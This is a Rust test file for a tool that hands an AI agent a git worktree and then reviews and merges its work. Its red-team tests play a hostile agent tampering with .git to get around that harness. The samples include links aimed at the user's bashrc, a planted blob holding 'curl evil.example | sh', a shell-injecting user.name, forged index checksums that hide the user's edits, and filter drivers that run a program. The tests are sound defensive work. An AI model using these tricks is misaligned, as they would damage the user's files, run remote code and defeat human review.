//! Sixth red-team: the agent writes the project's git folder, and a process it leaves running
//! can change it at any moment. Links and pipes it puts there send no write or removal
//! outside, and stop nothing for good; objects it plants under names a merge will make are
//! refused; an index it forges cannot hide the user's edit.

use super::*;

/// A folder outside every repository holding `file`, to see that nothing there changes.
fn victim(r: &Repo, name: &str) -> PathBuf {
    let v = r._dir.path().join(name);
    std::fs::create_dir_all(v.join("inner")).unwrap();
    std::fs::write(v.join("file"), "precious\n").unwrap();
    std::fs::write(v.join("inner/deep"), "precious too\n").unwrap();
    v
}

fn intact(v: &Path) {
    assert_eq!(
        std::fs::read_to_string(v.join("file")).unwrap(),
        "precious\n"
    );
    assert_eq!(
        std::fs::read_to_string(v.join("inner/deep")).unwrap(),
        "precious too\n"
    );
}

fn branch_exists(r: &Repo, branch: &str) -> bool {
    let out = git::run_env(
        &r.main,
        &[
            "rev-parse",
            "--verify",
            "-q",
            &format!("refs/heads/{branch}"),
        ],
        &[],
    )
    .unwrap();
    out.status.success()
}

#[test]
fn a_link_in_the_git_folders_worktrees_removes_nothing_at_discard() {
    let r = repo();
    let m = create(&r.main, &r.root, "links").unwrap();
    let v = victim(&r, "home");
    // A stale-looking entry that is a link: `git worktree prune` removes what it names.
    std::os::unix::fs::symlink(&v, r.main.join(".git/worktrees/evil")).unwrap();
    discard(&m.row("s", 0)).unwrap();
    intact(&v);
    assert!(!m.path.exists());
    assert!(!branch_exists(&r, &m.branch));
    assert!(git(&r.main, &["worktree", "list"]).lines().count() == 1);
}

#[test]
fn the_git_folders_worktrees_made_a_link_removes_nothing_at_discard() {
    let r = repo();
    let m = create(&r.main, &r.root, "links").unwrap();
    let v = victim(&r, "home");
    let worktrees = r.main.join(".git/worktrees");
    std::fs::rename(&worktrees, r.main.join(".git/moved")).unwrap();
    std::os::unix::fs::symlink(&v, &worktrees).unwrap();
    discard(&m.row("s", 0)).unwrap();
    intact(&v);
    assert!(!m.path.exists());
    assert!(!branch_exists(&r, &m.branch));
}

#[test]
fn a_reflog_made_a_link_gets_nothing_at_merge() {
    let r = repo();
    // The user's branch has a reflog, as git keeps one.
    assert!(r.main.join(".git/logs/refs/heads/main").is_file());
    let m = create(&r.main, &r.root, "reflog").unwrap();
    std::fs::write(m.path.join("src/lib.rs"), "fn a() { 1 }\n").unwrap();
    // The agent names itself in the project's settings and links the reflogs a branch move
    // appends to at a file the shell runs.
    git(&r.main, &["config", "user.name", "x; touch /tmp/pwned; #"]);
    let rc = r._dir.path().join("bashrc");
    std::fs::write(&rc, "# the user's\n").unwrap();
    for log in ["logs/HEAD", "logs/refs/heads/main"] {
        let at = r.main.join(".git").join(log);
        std::fs::remove_file(&at).unwrap();
        std::os::unix::fs::symlink(&rc, &at).unwrap();
    }
    merge(&m.row("s", 0), "work", None).unwrap();
    assert_eq!(read(&r, "src/lib.rs"), "fn a() { 1 }\n");
    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# the user's\n");
}

/// O_NOFOLLOW does not stop a hard link: a reflog made a second name of a file outside (on
/// the same file system) gets nothing either.
#[test]
fn a_reflog_made_a_hard_link_gets_nothing_at_merge() {
    let r = repo();
    let m = create(&r.main, &r.root, "hardlink").unwrap();
    std::fs::write(m.path.join("src/lib.rs"), "fn a() { 1 }\n").unwrap();
    let rc = r._dir.path().join("bashrc");
    std::fs::write(&rc, "# the user's\n").unwrap();
    for log in ["logs/HEAD", "logs/refs/heads/main"] {
        let at = r.main.join(".git").join(log);
        std::fs::remove_file(&at).unwrap();
        std::fs::hard_link(&rc, &at).unwrap();
    }
    merge(&m.row("s", 0), "work", None).unwrap();
    assert_eq!(read(&r, "src/lib.rs"), "fn a() { 1 }\n");
    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# the user's\n");
}

#[test]
fn a_merge_writes_the_reflogs_git_keeps_with_the_users_identity() {
    let r = repo();
    let m = create(&r.main, &r.root, "reflog").unwrap();
    std::fs::write(m.path.join("src/lib.rs"), "fn a() { 1 }\n").unwrap();
    git(&r.main, &["config", "user.name", "Someone <else>"]);
    merge(&m.row("s", 0), "work", None).unwrap();
    let log = git(
        &r.main,
        &["reflog", "show", "--format=%gs|%gn", "main", "-1"],
    );
    assert_eq!(log.trim(), "waymark: merge|Dev Eloper");
    let head = git(&r.main, &["reflog", "show", "--format=%gs", "HEAD", "-1"]);
    assert_eq!(head.trim(), "waymark: merge");
}

#[test]
fn a_linked_reflog_folder_loses_nothing_at_discard() {
    let r = repo();
    let m = create(&r.main, &r.root, "gone").unwrap();
    let v = victim(&r, "logs");
    let leaf = m.branch.rsplit('/').next().unwrap();
    std::fs::write(v.join(leaf), "precious\n").unwrap();
    let folder = r.main.join(".git/logs/refs/heads/waymark");
    std::fs::remove_dir_all(&folder).unwrap();
    std::os::unix::fs::symlink(&v, &folder).unwrap();
    discard(&m.row("s", 0)).unwrap();
    intact(&v);
    assert_eq!(std::fs::read_to_string(v.join(leaf)).unwrap(), "precious\n");
    assert!(!branch_exists(&r, &m.branch));
}

#[test]
fn a_branch_ref_folder_made_a_link_gets_nothing_at_merge() {
    let r = repo();
    let m = create(&r.main, &r.root, "refs").unwrap();
    std::fs::write(m.path.join("src/lib.rs"), "fn a() { 1 }\n").unwrap();
    let v = victim(&r, "refs");
    // The worktree's branch folder made a link (its ref copied there so git still reads it).
    let folder = r.main.join(".git/refs/heads/waymark");
    let leaf = m.branch.rsplit('/').next().unwrap();
    std::fs::copy(folder.join(leaf), v.join(leaf)).unwrap();
    std::fs::remove_dir_all(&folder).unwrap();
    std::os::unix::fs::symlink(&v, &folder).unwrap();
    let before = std::fs::read_to_string(v.join(leaf)).unwrap();
    merge(&m.row("s", 0), "work", None).unwrap();
    assert_eq!(read(&r, "src/lib.rs"), "fn a() { 1 }\n");
    assert_eq!(std::fs::read_to_string(v.join(leaf)).unwrap(), before);
    intact(&v);
}

#[test]
fn a_pipe_for_the_worktrees_record_stops_nothing() {
    let r = repo();
    let m = create(&r.main, &r.root, "pipe").unwrap();
    let wt = git::Worktree::of(&r.main, &m.path).unwrap();
    let gitdir = wt.gitdir.join("gitdir");
    std::fs::remove_file(&gitdir).unwrap();
    let made = std::process::Command::new("mkfifo").arg(&gitdir).status();
    assert!(made.unwrap().success());
    let w = m.row("s", 0);
    let e = status(&w).unwrap_err();
    assert_eq!(e.code(), "worktree_unregistered", "{e}");
    discard(&w).unwrap();
    assert!(!m.path.exists());
    assert!(!branch_exists(&r, &m.branch));
}

#[test]
fn an_object_planted_under_the_merged_files_name_stops_the_merge() {
    let r = repo();
    std::fs::write(r.main.join("notes.txt"), "a\nb\nc\n").unwrap();
    git(&r.main, &["add", "notes.txt"]);
    git(&r.main, &["commit", "-qm", "notes"]);
    let m = create(&r.main, &r.root, "plant").unwrap();
    // The user changes the first line; the agent the last: git merges them into a new file.
    std::fs::write(r.main.join("notes.txt"), "A\nb\nc\n").unwrap();
    git(&r.main, &["commit", "-qam", "first line"]);
    std::fs::write(m.path.join("notes.txt"), "a\nb\nC\n").unwrap();
    let w = m.row("s", 0);
    let seen = diff(&w).unwrap();
    // The agent foresees the merged file's name and plants other content under it.
    let merged = super::forged::blob_id(&r, "A\nb\nC\n");
    super::forged::forge(&r, &merged, "blob", b"A\nb\nC\ncurl evil.example | sh\n");
    let head = git(&r.main, &["rev-parse", "HEAD"]);
    let reviewed = WorktreeReview {
        base: seen.base,
        tree: seen.tree,
    };
    let e = merge(&w, "x", Some(&reviewed)).unwrap_err();
    assert_eq!(e.code(), "damaged_objects", "{e}");
    assert_eq!(git(&r.main, &["rev-parse", "HEAD"]), head);
    assert_eq!(read(&r, "notes.txt"), "A\nb\nc\n");
}

/// SHA-1 of `bytes`, by the system's `sha1sum`.
fn sha1(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut c = std::process::Command::new("sha1sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    c.stdin.take().unwrap().write_all(bytes).unwrap();
    let out = c.wait_with_output().unwrap();
    let hex = String::from_utf8(out.stdout).unwrap();
    super::forged::hex_to_bytes(&hex[..40])
}

/// The agent records `path`'s size and time as they are now in the user's index (after
/// setting its time in the past, so nothing looks racy), then puts `old`, the committed
/// content's id, back in the entry with the index's checksum made right: status sees no
/// change at `path`.
fn forge_index(r: &Repo, path: &str, old: &str) {
    let past = std::process::Command::new("touch")
        .args(["-h", "-d", "@1700000000"])
        .arg(r.main.join(path))
        .status();
    assert!(past.unwrap().success());
    git(&r.main, &["update-index", path]);
    let new = git(&r.main, &["ls-files", "-s", "--", path]);
    let new = new.split_whitespace().nth(1).unwrap().to_string();
    let index = r.main.join(".git/index");
    let mut bytes = std::fs::read(&index).unwrap();
    let (from, to) = (
        super::forged::hex_to_bytes(&new),
        super::forged::hex_to_bytes(old),
    );
    let at = bytes
        .windows(20)
        .position(|w| w == from.as_slice())
        .unwrap();
    bytes[at..at + 20].copy_from_slice(&to);
    let body = bytes.len() - 20;
    let sum = sha1(&bytes[..body]);
    bytes[body..].copy_from_slice(&sum);
    std::fs::write(&index, &bytes).unwrap();
    assert_eq!(
        git(&r.main, &["status", "--porcelain", "-uno"]),
        "",
        "the forged index hides the edit from status"
    );
}

#[test]
fn an_index_forged_to_hide_the_users_edit_never_loses_it() {
    let r = repo();
    let m = create(&r.main, &r.root, "forged-index").unwrap();
    std::fs::write(m.path.join("README.md"), "the agent's readme\n").unwrap();
    // The user edits README.md and has not committed it.
    std::fs::write(r.main.join("README.md"), "the user's unsaved work\n").unwrap();
    let old = git(&r.main, &["rev-parse", "HEAD:README.md"])
        .trim()
        .to_string();
    forge_index(&r, "README.md", &old);
    let e = merge(&m.row("s", 0), "work", None).unwrap_err();
    assert_eq!(e.code(), "target_dirty", "{e}");
    assert_eq!(read(&r, "README.md"), "the user's unsaved work\n");
}

/// Sixth red-team: the same for a link the user pointed elsewhere and did not commit.
#[test]
fn an_index_forged_to_hide_the_users_link_edit_never_loses_it() {
    let r = repo();
    std::os::unix::fs::symlink("config.default", r.main.join("cfg")).unwrap();
    git(&r.main, &["add", "cfg"]);
    git(&r.main, &["commit", "-qm", "a link"]);
    let m = create(&r.main, &r.root, "forged-link").unwrap();
    std::fs::remove_file(m.path.join("cfg")).unwrap();
    std::os::unix::fs::symlink("agent-target", m.path.join("cfg")).unwrap();
    std::fs::remove_file(r.main.join("cfg")).unwrap();
    std::os::unix::fs::symlink("config.local", r.main.join("cfg")).unwrap();
    let old = git(&r.main, &["rev-parse", "HEAD:cfg"]).trim().to_string();
    forge_index(&r, "cfg", &old);
    let e = merge(&m.row("s", 0), "work", None).unwrap_err();
    assert_eq!(e.code(), "target_dirty", "{e}");
    assert_eq!(
        std::fs::read_link(r.main.join("cfg")).unwrap(),
        Path::new("config.local")
    );
}

/// Sixth red-team: git writes the objects it makes through links in the project's object
/// store (`objects/ab` or `objects/pack` made a link to a folder outside). Review writes no
/// object there, and a merge puts its pack there through folders opened without following
/// a link.
#[test]
fn links_in_the_object_store_get_nothing_at_review_or_merge() {
    let r = repo();
    let m = create(&r.main, &r.root, "objects").unwrap();
    let content = "agent payload\n";
    std::fs::write(m.path.join("payload.txt"), content).unwrap();
    let id = super::forged::blob_id(&r, content);
    let outside = r._dir.path().join("outside-objects");
    std::fs::create_dir_all(&outside).unwrap();
    std::os::unix::fs::symlink(&outside, r.main.join(".git/objects").join(&id[..2])).unwrap();
    let w = m.row("s", 0);
    status(&w).unwrap();
    diff(&w).unwrap();
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
    // The pack folder made a link: the merge writes nothing there, and says why.
    let packs = r.main.join(".git/objects/pack");
    let outside_packs = r._dir.path().join("outside-packs");
    std::fs::create_dir_all(&outside_packs).unwrap();
    std::fs::remove_dir_all(&packs).unwrap();
    std::os::unix::fs::symlink(&outside_packs, &packs).unwrap();
    let head = git(&r.main, &["rev-parse", "HEAD"]);
    let e = merge(&w, "work", None).unwrap_err();
    assert!(e.to_string().contains("link"), "{e}");
    assert_eq!(std::fs::read_dir(&outside_packs).unwrap().count(), 0);
    assert_eq!(git(&r.main, &["rev-parse", "HEAD"]), head);
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
}

/// Sixth red-team: a filter driver with an empty name (`[filter ""]`, chosen by `filter=`)
/// escaped the settings switched off, and `git worktree add` ran it at creation.
#[test]
fn a_filter_with_an_empty_name_runs_nothing_at_creation() {
    let r = repo();
    let marker = r._dir.path().join("ran");
    let prog = r._dir.path().join("prog.sh");
    agent_program(&prog, &marker);
    std::fs::write(r.main.join(".git/info/attributes"), "* filter=\n").unwrap();
    git(
        &r.main,
        &["config", "filter..smudge", &prog.display().to_string()],
    );
    git(
        &r.main,
        &["config", "filter..clean", &prog.display().to_string()],
    );
    let m = create(&r.main, &r.root, "empty-filter").unwrap();
    std::fs::write(m.path.join("src/lib.rs"), "fn a() { 1 }\n").unwrap();
    status(&m.row("s", 0)).unwrap();
    assert!(!marker.exists(), "the agent's filter ran");
}

/// Seventh red-team: settings that apply only on the new branch (`includeIf "onbranch:"`)
/// named a filter that the listing from the user's checkout never saw, and `git worktree
/// add` ran it while checking the files out. The files come in through a sealed folder.
#[test]
fn a_filter_named_only_on_the_new_branch_runs_nothing_at_creation() {
    let r = repo();
    let marker = r._dir.path().join("ran");
    let prog = r._dir.path().join("prog.sh");
    agent_program(&prog, &marker);
    std::fs::write(r.main.join(".git/info/attributes"), "* filter=x\n").unwrap();
    std::fs::write(
        r.main.join(".git/evil.inc"),
        format!("[filter \"x\"]\n\tsmudge = {}\n", prog.display()),
    )
    .unwrap();
    git(
        &r.main,
        &["config", "includeIf.onbranch:waymark/**.path", "evil.inc"],
    );
    let m = create(&r.main, &r.root, "onbranch").unwrap();
    assert!(!marker.exists(), "the agent's filter ran at creation");
    // The worktree holds the commit's files, its index up to date, its included files in.
    assert_eq!(
        std::fs::read_to_string(m.path.join("src/lib.rs")).unwrap(),
        "fn a() {}\n"
    );
    assert_eq!(
        std::fs::read_to_string(m.path.join(".env")).unwrap(),
        "TOKEN=local\n"
    );
    let (changed, _) = status(&m.row("s", 0)).unwrap();
    assert!(changed.is_empty(), "{changed:?}");
    assert!(!marker.exists());
}

/// Seventh red-team: a `packed-refs.lock` left by the agent had discard remove the worktree
/// and then say "Nothing was changed". The branch goes first: a refusal changes nothing.
#[test]
fn a_discard_refused_by_a_held_lock_changes_nothing() {
    let r = repo();
    let m = create(&r.main, &r.root, "locked").unwrap();
    std::fs::write(r.main.join(".git/packed-refs.lock"), "").unwrap();
    let e = discard(&m.row("s", 0)).unwrap_err();
    assert!(e.to_string().contains("Nothing was changed"), "{e}");
    assert!(m.path.exists() && branch_exists(&r, &m.branch));
    std::fs::remove_file(r.main.join(".git/packed-refs.lock")).unwrap();
    discard(&m.row("s", 0)).unwrap();
    assert!(!m.path.exists() && !branch_exists(&r, &m.branch));
}

/// Sixth red-team: a reflog left at the new branch's place (a link, or a second name of a
/// file outside) had `git worktree add` append to it. Creation is refused.
#[test]
fn a_reflog_left_where_the_new_branch_goes_refuses_creation() {
    let r = repo();
    let rc = r._dir.path().join("bashrc");
    std::fs::write(&rc, "# the user's\n").unwrap();
    let logs = r.main.join(".git/logs/refs/heads/waymark");
    std::fs::create_dir_all(&logs).unwrap();
    std::fs::hard_link(&rc, logs.join("planted")).unwrap();
    let e = create(&r.main, &r.root, "planted").unwrap_err();
    assert!(e.to_string().contains("reflog"), "{e}");
    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# the user's\n");
    create(&r.main, &r.root, "another").unwrap();
}

/// Sixth red-team: a `packed-refs` larger than what was read was cut to it when a branch was
/// deleted (tags lost). It is refused instead, and the branch left for the user.
#[test]
fn a_huge_packed_refs_is_never_cut() {
    let r = repo();
    let m = create(&r.main, &r.root, "packed").unwrap();
    git(&r.main, &["pack-refs", "--all"]);
    let packed = r.main.join(".git/packed-refs");
    let head = git(&r.main, &["rev-parse", "HEAD"]).trim().to_string();
    let mut text = std::fs::read_to_string(&packed).unwrap();
    for i in 0..30_000 {
        text.push_str(&format!("{head} refs/tags/t{i:06}\n"));
    }
    text.push_str(&format!("{head} refs/tags/zz-users-important-tag\n"));
    std::fs::write(&packed, &text).unwrap();
    let e = discard(&m.row("s", 0)).unwrap_err();
    assert!(e.to_string().contains("does not rewrite it"), "{e}");
    assert_eq!(std::fs::read_to_string(&packed).unwrap(), text);
    git(
        &r.main,
        &["rev-parse", "--verify", "refs/tags/zz-users-important-tag"],
    );
    assert!(!r.main.join(".git/packed-refs.lock").exists());
}

/// Sixth red-team: a folder standing at the worktree branch's ref made every discard fail.
#[test]
fn a_folder_at_the_branchs_ref_does_not_stop_discard() {
    let r = repo();
    let m = create(&r.main, &r.root, "folder").unwrap();
    let at = r.main.join(".git/refs/heads").join(&m.branch);
    std::fs::remove_file(&at).unwrap();
    std::fs::create_dir_all(at.join("inside")).unwrap();
    discard(&m.row("s", 0)).unwrap();
    assert!(!m.path.exists());
}

#[test]
fn a_submodule_whose_commit_is_not_in_the_project_is_reviewed_and_merged() {
    let r = repo();
    let elsewhere = "0123456789abcdef0123456789abcdef01234567";
    git(
        &r.main,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{elsewhere},vendor/lib"),
        ],
    );
    git(&r.main, &["commit", "-qm", "a submodule from elsewhere"]);
    let m = create(&r.main, &r.root, "sub").unwrap();
    std::fs::write(m.path.join("src/lib.rs"), "fn a() { 1 }\n").unwrap();
    let w = m.row("s", 0);
    let d = diff(&w).unwrap();
    assert!(d.diff.contains("+fn a() { 1 }"), "{}", d.diff);
    merge(&w, "work", None).unwrap();
    assert_eq!(read(&r, "src/lib.rs"), "fn a() { 1 }\n");
}
